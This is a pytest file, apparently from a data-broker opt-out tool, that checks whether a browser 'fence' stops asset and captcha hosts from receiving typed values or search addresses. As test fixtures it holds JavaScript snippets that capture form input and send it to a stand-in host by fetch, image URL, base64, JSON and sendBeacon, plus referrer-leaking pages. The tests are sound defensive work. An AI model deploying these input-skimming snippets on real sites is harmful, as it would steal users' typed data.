"""Proves that asset and captcha hosts get what they need and never a typed value.

They are connected, so the proxy cannot tell what goes to them over TLS; the routes inside the
browser can. Control: the same page with the lent host among the broker's own gets everything.
"""

from __future__ import annotations

import base64
import hashlib
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar

import pytest
import trustme
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from playwright.async_api import Error

from optout.browser.addresses import Address
from optout.browser.fence import Anomaly, Fence
from optout.browser.visit import until
from optout.browser.window import Window

pytestmark = pytest.mark.browser

BROKER = "consumer.risk.lexisnexis.com"
SECOND = "people.example.org"
LENT = "cdn.example.com"
SECRET = "jordan.sample@example.com"
FORM = (
    '<form method="post" action="/post"><input id="name" name="name">'
    '<button id="go">Go</button></form>'
)
POST_TO_LENT = f"fetch('https://{LENT}/', {{mode: 'no-cors', method: 'POST', body: %s}})"
IMAGE_OF_LENT = f"new Image().src = 'https://{LENT}/?q=' + %s"


@dataclass(frozen=True)
class Seen:
    """One request that arrived."""

    host: str
    method: str
    path: str
    body: bytes
    referrer: str = ""


@dataclass
class Sites:
    """The broker's site and the lent one, behind one TLS server."""

    port: int = 0
    spki: str = ""
    page: str = ""
    seen: list[Seen] = field(default_factory=list)

    def at(self, host: str) -> list[Seen]:
        return [one for one in self.seen if one.host == host and one.path != "/favicon.ico"]

    def resolve(self, _host: str, port: int) -> tuple[Address, ...]:
        assert port == 443
        return (Address("127.0.0.1", self.port, ours=True),)


READS = "<script>fetch('/told?' + document.referrer).catch(() => 0)</script>"
TELLS_ALL = '<meta name="referrer" content="unsafe-url">'
WORKS = f"fetch('https://{LENT}/worked', {{mode: 'no-cors'}}).catch(() => 0)"
TOLD_BY_WORKER = {"Referrer-Policy": "unsafe-url"}


class _Handler(BaseHTTPRequestHandler):
    sites: ClassVar[Sites]

    def do_GET(self) -> None:
        self._take(b"")
        if self.path == "/to-lent":
            self._answer(302, "", {"Location": f"https://{LENT}/from-get"})
        elif self.path.startswith("/page"):
            self._answer(200, self.sites.page)
        elif self.path == "/reads":
            self._answer(200, READS)
        elif self.path.startswith("/framed"):
            self._answer(200, TELLS_ALL + f'<img src="https://{LENT}/framed.png">')
        elif self.path.startswith("/worker"):
            self._answer(200, WORKS, {"Content-Type": "text/javascript", **TOLD_BY_WORKER})
        else:
            self._answer(200, "", {"Access-Control-Allow-Origin": "*"})

    def do_POST(self) -> None:
        self._take(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        if self.headers["Host"] == BROKER:
            self._answer(307, "", {"Location": f"https://{LENT}/from-post"})
        else:
            self._answer(200, "", {"Access-Control-Allow-Origin": "*"})

    def _take(self, body: bytes) -> None:
        referrer = self.headers["Referer"] or ""
        self.sites.seen.append(Seen(self.headers["Host"], self.command, self.path, body, referrer))

    def _answer(self, status: int, text: str, headers: dict[str, str] | None = None) -> None:
        body = text.encode()
        self.send_response(status)
        named = {"Content-Type": "text/html", "Content-Length": str(len(body)), **(headers or {})}
        for name, value in named.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # a browser that leaves in mid-sentence


@pytest.fixture(scope="module")
def sites() -> Iterator[Sites]:
    certificate = trustme.CA().issue_cert(BROKER, SECOND, LENT)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(context)
    sites = Sites()
    server = _Server(("127.0.0.1", 0), type("Handler", (_Handler,), {"sites": sites}))
    # In the thread of each visitor: one that says nothing does not keep the others waiting.
    server.socket = context.wrap_socket(
        server.socket, server_side=True, do_handshake_on_connect=False
    )
    sites.port = server.server_address[1]
    key = x509.load_pem_x509_certificate(certificate.cert_chain_pems[0].bytes()).public_key()
    raw = key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    sites.spki = base64.b64encode(hashlib.sha256(raw).digest()).decode()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield sites
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture(scope="module")
def window() -> Iterator[Window]:
    with Window.hidden() as shared:
        yield shared


@dataclass
class Run:
    """What came of one page."""

    at_lent: list[Seen]
    anomalies: list[Anomaly]
    refused: int


@dataclass
class Trial:
    """Runs one page behind one kind of fence."""

    sites: Sites
    window: Window

    def run(
        self,
        html: str,
        lent_as: str,
        *,
        types: bool = False,
        go: bool = False,
        query: str = "",
        at_least: int = 1,
    ) -> Run:
        self.sites.page = "<!doctype html><body>" + html
        self.sites.seen.clear()
        lists = {"hosts": [BROKER, SECOND], "asset_hosts": [], "captcha_hosts": []}
        lists[lent_as].append(LENT)
        extra = (f"--ignore-certificate-errors-spki-list={self.sites.spki}",)
        with Fence(
            lists["hosts"],
            lists["asset_hosts"],
            lists["captcha_hosts"],
            resolver=self.sites.resolve,
            extra_args=extra,
        ) as fence:
            fence.typed.add(query)
            self.window.background.wait(
                self._visit(fence, types=types, go=go, query=query, least=at_least)
            )
            return Run(self.sites.at(LENT), list(fence.anomalies), len(fence.refusals))

    async def _visit(self, fence: Fence, *, types: bool, go: bool, query: str, least: int) -> None:
        context = await self.window.context_for(fence)
        page = await context.new_page()
        await fence.watch(page)
        failed: list[str] = []
        context.on("requestfailed", lambda request: failed.append(request.url))
        try:
            await page.goto(f"https://{BROKER}/page?of={query}", timeout=60_000)
            if types:
                fence.typed.add(SECRET)
                await page.fill("#name", SECRET)
            if go:
                await page.click("#go", no_wait_after=True)
        except Error:
            pass  # a refused navigation is one of the cases

        async def is_over() -> bool:
            ended = any(LENT in url for url in failed) or bool(fence.refusals or fence.anomalies)
            return ended or len(self.sites.at(LENT)) >= least

        await until(is_over, 20)
        await context.close()


@pytest.fixture(scope="module")
def trial(sites: Sites, window: Window) -> Trial:
    return Trial(sites, window)


def fetching(where: str, options: str) -> str:
    return f"<script>fetch('{where}', {options}).catch(() => 0)</script>"


POST = "{mode: 'no-cors', method: 'POST', body: 'x'}"


def on_input(code: str) -> str:
    return FORM + f"<script>addEventListener('input', e => {{ {code} }})</script>"


def test_an_asset_host_may_be_asked_for_files(trial: Trial) -> None:
    run = trial.run(f'<img src="https://{LENT}/logo.png">', "asset_hosts")
    assert [one.method for one in run.at_lent] == ["GET"]
    assert run.refused == 0


def test_an_asset_host_gets_no_post(trial: Trial) -> None:
    page = fetching(f"https://{LENT}/collect", POST)
    assert trial.run(page, "hosts").at_lent != []
    run = trial.run(page, "asset_hosts")
    assert run.at_lent == []
    assert run.anomalies == []


def test_an_asset_host_gets_no_web_socket(trial: Trial) -> None:
    page = f"<script>new WebSocket('wss://{LENT}/live')</script>"
    assert trial.run(page, "hosts").at_lent != []
    assert trial.run(page, "asset_hosts").at_lent == []


def test_a_captcha_host_may_be_posted_to(trial: Trial) -> None:
    run = trial.run(fetching(f"https://{LENT}/verify", POST), "captcha_hosts")
    assert [one.method for one in run.at_lent] == ["POST"]


def test_a_captcha_may_stand_in_a_frame_of_its_own(trial: Trial) -> None:
    run = trial.run(f'<iframe src="https://{LENT}/widget"></iframe>', "captcha_hosts")
    assert [one.path for one in run.at_lent] == ["/widget"]


SPIES = {
    "in the address": IMAGE_OF_LENT % "encodeURIComponent(e.target.value)",
    "in the body": POST_TO_LENT % "e.target.value",
    "in base64": POST_TO_LENT % "btoa('k=' + e.target.value)",
    "in base64 inside an address": IMAGE_OF_LENT % "encodeURIComponent(btoa(e.target.value))",
    "in JSON": POST_TO_LENT % "JSON.stringify({a: {b: e.target.value}})",
    "as a form": "d = new FormData(); d.append('q', e.target.value); " + POST_TO_LENT % "d",
    "by beacon": f"navigator.sendBeacon('https://{LENT}/', e.target.value)",
    "encoded twice": IMAGE_OF_LENT % "encodeURIComponent(encodeURIComponent(e.target.value))",
    "in capitals": IMAGE_OF_LENT % "e.target.value.toUpperCase()",
}


@pytest.mark.parametrize("lent_as", ["asset_hosts", "captcha_hosts"])
@pytest.mark.parametrize("spy", SPIES)
def test_a_typed_value_never_goes_to_a_lent_host(trial: Trial, spy: str, lent_as: str) -> None:
    run = trial.run(on_input(SPIES[spy]), lent_as, types=True)
    assert run.at_lent == []
    assert Anomaly.TYPED_VALUE in run.anomalies


def test_the_same_spies_reach_a_host_of_the_broker(trial: Trial) -> None:
    for name, spy in SPIES.items():
        assert trial.run(on_input(spy), "hosts", types=True).at_lent != [], name


@pytest.mark.parametrize("lent_as", ["asset_hosts", "captcha_hosts"])
def test_a_form_re_posted_to_a_lent_host_is_refused(trial: Trial, lent_as: str) -> None:
    run = trial.run(FORM, lent_as, types=True, go=True)
    assert run.at_lent == []
    assert Anomaly.TYPED_VALUE in run.anomalies


def test_a_form_re_posted_within_the_brokers_hosts_arrives(trial: Trial) -> None:
    run = trial.run(FORM, "hosts", types=True, go=True)
    assert b"jordan.sample%40example.com" in run.at_lent[0].body


def test_a_request_of_a_script_re_posted_to_a_lent_host_is_refused(trial: Trial) -> None:
    again = "fetch('/post', {mode: 'no-cors', method: 'POST', body: e.target.value})"
    assert trial.run(on_input(again), "hosts", types=True).at_lent != []
    run = trial.run(on_input(again), "captcha_hosts", types=True)
    assert run.at_lent == []
    assert Anomaly.TYPED_VALUE in run.anomalies


@pytest.mark.parametrize("where", [f"https://{LENT}/", "/to-lent"])
def test_the_window_is_never_led_to_a_lent_host(trial: Trial, where: str) -> None:
    page = f"<script>location = '{where}'</script>"
    assert trial.run(page, "hosts").at_lent != []
    run = trial.run(page, "captcha_hosts")
    assert run.at_lent == []
    assert Anomaly.NAVIGATION in run.anomalies


SEARCHED = "jordan-sample"
ASKED_FROM_A_SEARCH = {
    "a picture": f'<img src="https://{LENT}/logo.png">',
    "a picture that says so itself": f'<img referrerpolicy="unsafe-url" src="https://{LENT}/1.png">',
    "a script": f"<script>fetch('https://{LENT}/x', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "a style of a style": f'<link rel="stylesheet" href="https://{LENT}/a.css">',
}


@pytest.mark.parametrize("lent_as", ["asset_hosts", "captcha_hosts"])
@pytest.mark.parametrize("how", ASKED_FROM_A_SEARCH)
def test_no_other_host_is_told_the_address_of_a_search(
    trial: Trial, how: str, lent_as: str
) -> None:
    page = TELLS_ALL + ASKED_FROM_A_SEARCH[how]
    told = trial.run(page, "hosts", query=SEARCHED).at_lent
    assert SEARCHED in told[0].referrer  # control: the page does make the browser tell
    run = trial.run(page, lent_as, query=SEARCHED)
    assert [one.referrer for one in run.at_lent] == [f"https://{BROKER}/"]
    assert run.anomalies == []  # and a search goes on


def test_a_redirect_that_would_tell_the_address_of_a_search_is_refused(trial: Trial) -> None:
    page = TELLS_ALL + '<img src="/to-lent">'
    assert SEARCHED in trial.run(page, "hosts", query=SEARCHED).at_lent[0].referrer  # control
    run = trial.run(page, "asset_hosts", query=SEARCHED)
    assert run.at_lent == []
    assert run.anomalies == []  # and a search goes on
    assert trial.run('<img src="/to-lent">', "asset_hosts", query=SEARCHED).at_lent != []


def test_a_frame_that_could_read_the_address_of_a_search_stays_empty(trial: Trial) -> None:
    frame = f'<iframe src="https://{LENT}/reads"></iframe>'
    told = trial.run(TELLS_ALL + frame, "hosts", query=SEARCHED, at_least=2).at_lent
    assert SEARCHED in told[1].path  # control: what stands in it reads the address by itself
    run = trial.run(TELLS_ALL + frame, "captcha_hosts", query=SEARCHED)
    assert (run.at_lent, run.anomalies, run.refused) == ([], [], 1)
    polite = trial.run(frame, "captcha_hosts", query=SEARCHED, at_least=2).at_lent
    assert [one.path for one in polite] == ["/reads", f"/told?https://{BROKER}/"]


@pytest.mark.parametrize("lent_as", ["asset_hosts", "captcha_hosts"])
def test_a_frame_in_a_process_of_its_own_tells_nobody_the_address_of_a_search(
    trial: Trial, lent_as: str
) -> None:
    frame = f'<iframe src="https://{SECOND}/framed?of={SEARCHED}"></iframe>'
    told = trial.run(frame, "hosts", query=SEARCHED).at_lent
    assert SEARCHED in told[0].referrer  # control: that frame does make the browser tell
    run = trial.run(frame, lent_as, query=SEARCHED)
    assert (run.at_lent, run.anomalies, run.refused) == ([], [], 1)


def test_a_worker_that_many_pages_could_share_asks_nobody_for_anything(trial: Trial) -> None:
    """What such a worker asks for passes neither a route nor the page's session."""
    alone, shared = (
        f"<script>new {kind}('/worker.js?of={SEARCHED}')</script>"
        for kind in ("Worker", "SharedWorker")
    )
    assert SEARCHED in trial.run(alone, "hosts", query=SEARCHED).at_lent[0].referrer  # control
    cut = trial.run(alone, "asset_hosts", query=SEARCHED).at_lent
    assert [one.referrer for one in cut] == [f"https://{BROKER}/"]
    assert trial.run(shared, "asset_hosts", query=SEARCHED).at_lent == []
